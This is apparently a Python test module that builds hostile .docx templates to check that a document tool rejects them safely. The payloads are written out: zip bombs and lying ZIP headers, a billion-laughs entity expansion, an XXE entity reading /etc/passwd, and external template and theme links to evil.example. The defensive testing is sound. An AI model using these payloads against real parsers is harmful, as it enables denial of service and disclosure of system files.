"""Word files that a brief names as its designer's template, and that were made for something else.

A template that cannot be used is a warning: the house look takes its place.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Mapping

from tests.hostile.case import CANARY, Case, Text, brief

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def packed(parts: Mapping[str, Text], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP file of *parts*."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def styles(inside: str, head: str = "") -> bytes:
    """A Word file that has styles and nothing else."""
    return packed({"word/styles.xml": f'{head}<w:styles xmlns:w="{W}">{inside}</w:styles>'})


def style(identifier: str, name: str, inside: str = "") -> str:
    """One paragraph style."""
    return f'<w:style w:type="paragraph" w:styleId="{identifier}"><w:name w:val="{name}"/>{inside}</w:style>'


def template(data: bytes) -> dict[str, Text]:
    """A brief whose third line names *data* as its template."""
    return {**brief("docx: {template: t.docx}\n"), "t.docx": data}


def lying() -> bytes:
    """A part that says it has ten bytes and unpacks to fifty million."""
    data = bytearray(packed({"word/styles.xml": b"\0" * 50_000_000}))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(mark) + offset
        data[at : at + 4] = struct.pack("<I", 10)
    return bytes(data)


def crowded() -> bytes:
    """A directory of three hundred thousand parts of nothing."""
    entry = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    directory = entry * 300_000
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(directory), len(local), 0)
    return local + directory + end


CASES: tuple[Case, ...] = (
    Case("no Word file for a template", template(b"hello")),
    Case("nothing for a template of Word", template(b"")),
    Case("a Word file cut in the middle", template(styles(style("a", "a"))[:-30])),
    Case("a Word file without styles", template(packed({"word/document.xml": "<a/>"}))),
    Case("styles that are no XML", template(packed({"word/styles.xml": "hello"}))),
    Case("styles that unpack to fifty megabytes", template(packed({"word/styles.xml": b" " * 50_000_000}))),
    Case("styles that lie about their size", template(lying())),
    Case("a Word file of many parts", template(crowded())),
    Case("styles packed in an unknown way", template(packed({"word/styles.xml": "<a/>"}, zipfile.ZIP_LZMA))),
    Case(
        "styles with entities that multiply",
        template(
            styles(
                style("a", "&h;"),
                "<!DOCTYPE a [<!ENTITY a 'aaaaaaaaaa'>"
                + "".join(f"<!ENTITY {chr(98 + n)} '{('&' + chr(97 + n) + ';') * 10}'>" for n in range(7))
                + "]>",
            )
        ),
    ),
    Case(
        "styles that read a file",
        template(
            styles(style("a", "&x;"), f"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'><!ENTITY c '{CANARY}'>]>")
        ),
        absent=("root:x",),
    ),
    Case(
        "twenty thousand styles of one name",
        template(styles(style("a", "a") * 20_000)),
        status=None,
    ),
    Case(
        "styles based on each other",
        template(styles(style("a", "a", '<w:basedOn w:val="b"/>') + style("b", "b", '<w:basedOn w:val="a"/>'))),
    ),
    Case("elements inside each other in styles", template(styles("<w:rPr>" * 2_000 + "</w:rPr>" * 2_000))),
    Case(
        "a template with relations outside",
        template(
            packed(
                {
                    "word/styles.xml": f'<w:styles xmlns:w="{W}">{style("a", "a")}</w:styles>',
                    "word/_rels/settings.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
                    '2006/relationships"><Relationship Id="r1" Type="attachedTemplate" '
                    'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
                }
            )
        ),
        absent=("evil.example",),
    ),
    Case(
        "a theme that fetches",
        template(
            packed(
                {
                    "word/styles.xml": f'<w:styles xmlns:w="{W}">{style("a", "a")}</w:styles>',
                    "word/theme/theme1.xml": '<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
                    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                    '<a:blip r:link="rId1"/><a:hlinkClick r:id="rId2" action="http://evil.example"/></a:theme>',
                }
            )
        ),
        absent=("evil.example",),
    ),
)
